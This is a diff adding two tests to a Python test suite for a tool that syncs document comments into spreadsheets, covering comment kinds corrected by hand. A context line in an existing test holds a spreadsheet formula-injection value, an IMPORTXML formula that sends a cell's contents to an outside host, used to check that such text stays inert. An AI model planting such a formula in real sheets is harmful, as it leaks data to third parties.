@@ -448,6 +448,42 @@ def test_comment_cells_belong_to_people(team: Team) -> None:
     assert ("note", "See the timeline.", "1") == (row["kind"], row["answer"], row["replies"])
 
 
+def test_a_corrected_kind_stays_for_ever(team: Team) -> None:
+    """Also when the comment is edited into what the person said it is, and then into something else."""
+    thread = team.say("ken", "Why was there no alert?", "pool exhaustion")
+    team.settle()
+    key = f"{team.document_id}/{thread}"
+    team.sheet(COMMENTS).type(key, "kind", "suggestion")
+    team.settle()
+    for text in ("Suggestion: add an alert.", "Kudos: great work, thank you!"):
+        comments = team.world.emulator.client("drive", user="ken@example.com").comments()
+        comments.update(
+            fileId=team.document_id, commentId=thread, body={"content": text}, fields="id"
+        ).execute()
+        # Activity does not tell of edited comments: they are seen when their document is read.
+        team.sync(full=True)
+
+    row = team.sheet(COMMENTS).by_key()[key]
+    assert ("suggestion", "Kudos: great work, thank you!") == (row["kind"], row["comment"])
+
+
+def test_a_note_corrected_to_a_question_is_one(team: Team) -> None:
+    """It counts as unanswered until somebody replies; then its answer stands in the sheet."""
+    thread = team.say("ken", "The pool size here.", "pool exhaustion")
+    team.settle()
+    key = f"{team.document_id}/{thread}"
+    assert "note" == team.sheet(COMMENTS).by_key()[key]["kind"]
+    team.sheet(COMMENTS).type(key, "kind", "question")
+    team.sync(full=True)
+    unanswered = team.sheet(POSTMORTEMS).get("INC-7", "unanswered")
+    team.reply("bob", thread, "It was 20 per instance.")
+    team.settle()
+
+    assert "1" == unanswered
+    assert "0" == team.sheet(POSTMORTEMS).get("INC-7", "unanswered")
+    assert "It was 20 per instance." == team.sheet(COMMENTS).by_key()[key]["answer"]
+
+
 def test_nothing_becomes_a_formula(team: Team) -> None:
     """Texts from documents that look like formulas arrive as the texts they are."""
     words = '=IMPORTXML("https://example.com/?"&A1,"//a")'
